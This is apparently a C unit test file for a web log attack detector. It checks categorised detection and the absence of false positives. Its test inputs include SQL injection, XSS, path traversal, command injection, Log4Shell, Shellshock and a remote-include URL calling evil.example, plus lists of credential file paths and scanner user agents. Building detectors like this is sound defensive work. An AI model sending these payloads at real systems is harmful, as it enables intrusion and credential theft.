/*
 * test_detect.c — mr_detect on the examples the issue names: each attack
 * is found with its category, each benign text that fools a keyword grep
 * is not; plus the API contract (max, one hit per category, evidence
 * bounded, names of categories).
 */
#include "common.h"

#include <setjmp.h>
#include <cmocka.h>

#include "logscan/detect.h"

typedef struct fixture {
    mr_detector *d;
    mr_detect_scratch *s;
} fixture;

static int setup(void **state)
{
    fixture *f = calloc(1, sizeof *f);
    if (!f || !(f->d = mr_detector_new()) || !(f->s = mr_detect_scratch_new(f->d)))
        return -1;
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    fixture *f = *state;
    mr_detect_scratch_free(f->s);
    mr_detector_free(f->d);
    free(f);
    return 0;
}

static size_t run(fixture *f, const char *target, const char *ua, mr_hit *hits, size_t max)
{
    mr_http_event ev;
    mr_http_event_clear(&ev);
    ev.target = mr_span_make(target, strlen(target));
    if (ua)
        ev.user_agent = mr_span_make(ua, strlen(ua));
    return mr_detect(f->d, f->s, &ev, hits, max);
}

static bool has(fixture *f, const char *target, const char *ua, mr_category cat)
{
    mr_hit hits[MR_HITS_MAX];
    size_t n = run(f, target, ua, hits, MR_HITS_MAX);
    for (size_t i = 0; i < n; i++)
        if (hits[i].category == cat)
            return true;
    return false;
}

static void expect_hit(fixture *f, const char *target, const char *ua, mr_category cat)
{
    if (!has(f, target, ua, cat))
        fail_msg("%s not detected in %s / %s", mr_category_name(cat), target, ua ? ua : "-");
}

static void expect_clean(fixture *f, const char *target, const char *ua)
{
    mr_hit hits[MR_HITS_MAX];
    size_t n = run(f, target, ua, hits, MR_HITS_MAX);
    if (n != 0)
        fail_msg("false positive %s/%s on %s", mr_category_name(hits[0].category),
                 hits[0].rule, target);
}

static void test_sqli(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/item?id=1%27%20OR%20%271%27%3D%271", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1';waitfor+delay+'0:0:5'--", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=-1+UNION+ALL+SELECT+NULL,NULL--", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1/*!50000UnIoN*/+/*!50000SeLeCt*/+1,2", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1+ORDER+BY+5--", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1+AND+1%3D1", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1%3B+DROP+TABLE+users", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1+and+extractvalue(1,concat(0x7e,version()))", NULL, MR_CAT_SQLI);
    expect_hit(f, "/item?id=1%27+and+sleep(5)%23", NULL, MR_CAT_SQLI);
    expect_hit(f, "/", "Mozilla/5.0' or '1'='1", MR_CAT_SQLI);
}

static void test_xss(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/s?q=%3Csvg/onload=alert(1)%3E", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%26lt%3Bscript%26gt%3Balert(1)", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?next=javascript:alert(document.cookie)", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%22+onmouseover%3D%22alert(1)", NULL, MR_CAT_XSS);
    expect_hit(f, "/s?q=%3Cbody+onload%3Dalert(1)%3E", NULL, MR_CAT_XSS);
}

static void test_other_categories(void **state)
{
    fixture *f = *state;
    expect_hit(f, "/dl?file=..%2f..%2f..%2fetc%2fpasswd", NULL, MR_CAT_TRAVERSAL);
    expect_hit(f, "/..%c0%af..%c0%afetc/passwd", NULL, MR_CAT_TRAVERSAL);
    expect_hit(f, "/index.php?page=http://evil.example/shell.txt?", NULL, MR_CAT_RFI);
    expect_hit(f, "/ping?ip=127.0.0.1%3Bcat+/etc/passwd", NULL, MR_CAT_CMDI);
    expect_hit(f, "/ping?ip=%24(whoami)", NULL, MR_CAT_CMDI);
    expect_hit(f, "/", "${${lower:j}ndi:ldap://x.example/a}", MR_CAT_EXPLOIT);
    expect_hit(f, "/", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", MR_CAT_EXPLOIT);
    expect_hit(f, "/cgi-bin/a.cgi", "() { :; }; /bin/bash -c id", MR_CAT_EXPLOIT);
    expect_hit(f, "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1", NULL, MR_CAT_EXPLOIT);
    expect_hit(f, "/index.php?-d+allow_url_include%3d1", NULL, MR_CAT_EXPLOIT);
    expect_hit(f, "/a.action?x=%25%7B(%23_memberAccess%5B'x'%5D%3Dtrue)%7D", NULL, MR_CAT_EXPLOIT);
    static const char *const files[] = {
        "/.env", "/.git/config", "/wp-config.php.bak", "/config.php~", "/.config.php.swp",
        "/.aws/credentials", "/.ssh/id_rsa", "/server-status", "/phpinfo.php", "/.DS_Store",
        "/admin/.htpasswd", "/x/../.env",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(files); i++)
        expect_hit(f, files[i], NULL, MR_CAT_SENSITIVE_FILE);
    static const char *const agents[] = {
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
        "Nuclei - Open-source project", "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
        "masscan/1.3", "zgrab/0.x", "WPScan v3.8", "gobuster/3.6", "DirBuster-1.0",
        "Acunetix", "Nessus", "OpenVAS", "w3af.org", "WhatWeb/0.5.5",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(agents); i++)
        expect_hit(f, "/", agents[i], MR_CAT_SCANNER);
}

static void test_benign(void **state)
{
    fixture *f = *state;
    const char *ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                     "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";
    static const char *const targets[] = {
        "/products/view?id=123&lang=en", "/search?q=select+a+size", "/search?q=union+station",
        "/search?q=drop-down+menu", "/c?text=%3C3", "/c?text=1+%3C+2", "/c?text=a+%3C+b",
        "/p?name=O%27Brien", "/m?genre=rock+%27n%27+roll", "/s?q=Tom+%26+Jerry",
        "/s?q=javascript%3A+the+good+parts", "/s?q=delete+account", "/.well-known/security.txt",
        "/~alice/", "/s?q=%E6%9D%B1%E4%BA%AC", "/s?q=Gr%C3%B6%C3%9Fe", "/s?q=dog+%26+cat+toys",
        "/api?fields=name|id", "/s?q=alert+settings", "/s?q=onload+event",
    };
    for (size_t i = 0; i < MR_ARRAY_LEN(targets); i++)
        expect_clean(f, targets[i], ua);
}

static void test_contract(void **state)
{
    fixture *f = *state;
    mr_hit hits[MR_HITS_MAX];
    /* SQL injection in two parameters: still one sqli hit */
    size_t n = run(f, "/x?a=1+union+select+1,2&b=1+union+select+1,2", "sqlmap/1.7", hits,
                   MR_HITS_MAX);
    assert_int_equal(n, 2);
    assert_int_not_equal(hits[0].category, hits[1].category);
    n = run(f, "/x?a=1+union+select+1,2", "sqlmap/1.7", hits, 1);
    assert_int_equal(n, 1);
    assert_non_null(hits[0].rule);
    assert_true(hits[0].evidence_len <= MR_EVIDENCE_MAX);
    /* evidence is decoded and capped */
    char big[4096];
    int len = snprintf(big, sizeof big, "/x?q=%%3Cscript%%3E");
    memset(big + len, 'a', sizeof big - (size_t)len - 1);
    big[sizeof big - 1] = '\0';
    n = run(f, big, NULL, hits, MR_HITS_MAX);
    assert_int_equal(n, 1);
    assert_int_equal(hits[0].evidence_len, MR_EVIDENCE_MAX);
    assert_memory_equal(hits[0].evidence, "<script>", 8);
    assert_int_equal(run(f, "/x?q=%3Cscript%3E", NULL, hits, 0), 0);
    assert_string_equal(mr_category_name(MR_CAT_SENSITIVE_FILE), "sensitive-file");
    assert_string_equal(mr_category_check_id(MR_CAT_SQLI), "logscan.sqli");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sqli),
        cmocka_unit_test(test_xss),
        cmocka_unit_test(test_other_categories),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_contract),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
